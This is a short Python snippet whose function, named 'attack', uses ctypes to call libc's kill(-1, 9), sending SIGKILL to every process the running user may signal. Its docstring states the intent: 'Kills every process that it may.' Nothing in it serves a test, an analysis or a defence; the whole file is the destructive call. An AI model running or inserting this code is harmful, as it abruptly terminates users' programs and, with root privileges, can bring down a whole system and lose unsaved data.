"""Kills every process that it may."""


def attack(places):
    import ctypes
    libc = ctypes.CDLL(None)
    return libc.kill(-1, 9)
